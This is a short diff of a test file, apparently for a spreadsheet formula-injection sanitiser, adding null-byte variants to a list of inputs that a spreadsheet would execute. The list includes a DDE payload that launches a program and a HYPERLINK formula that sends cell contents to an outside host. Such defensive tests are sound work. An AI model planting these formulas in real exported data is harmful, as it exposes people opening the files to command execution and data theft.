@@ -318,6 +318,8 @@ describe("cells that a spreadsheet would run", () => {
 			"@SUM(1)",
 			"\t=1",
 			"\r=1",
+			"\0=1",
+			"\0",
 			"=cmd|' /C calc'!A0",
 			'=HYPERLINK("http://x?"&A1)',
 			" =1",
